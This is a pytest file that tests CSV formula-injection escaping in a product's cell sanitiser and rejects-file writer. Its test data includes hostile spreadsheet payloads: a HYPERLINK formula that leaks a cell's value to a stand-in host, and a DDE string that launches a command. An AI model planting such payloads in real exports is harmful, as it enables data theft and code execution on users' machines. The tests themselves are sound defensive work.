"""CSV formula injection (issue 13, finding 5): the shared cell escaping, and the adapter's
rejects file, the other CSV the product writes."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from hitmachine.core.csv_cells import FORMULA_START, safe_cell, unescape_cell
from hitmachine_adapter import pipeline
from hitmachine_adapter.pipeline import RejectsFile

PAYLOADS = ('=HYPERLINK("http://x/?d="&B2)', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3",
            "\t=1", "\r=1", "'=1", "'")


@pytest.mark.parametrize("text", PAYLOADS)
def test_a_formula_is_escaped_and_the_escape_undone_exactly(text: str) -> None:
    cell = safe_cell(text)
    assert cell.startswith("'") and not cell.startswith(FORMULA_START)
    assert unescape_cell(cell) == text


@pytest.mark.parametrize("text", ["VH-2026-001", "", "12", "a=b", " =1"])
def test_plain_text_is_left_alone(text: str) -> None:
    assert safe_cell(text) == text == unescape_cell(text)


def test_the_rejects_file_escapes_its_cells(tmp_path: Path) -> None:
    path = tmp_path / "rejects.csv"
    rejects = RejectsFile(path)
    rejects.write([pipeline.Reject(7, ("=HYPERLINK(1)", "@x"), "-bad", None)])
    rejects.finish()
    with path.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    assert rows[1] == ["7", "", "'=HYPERLINK(1) @x", "'-bad"]
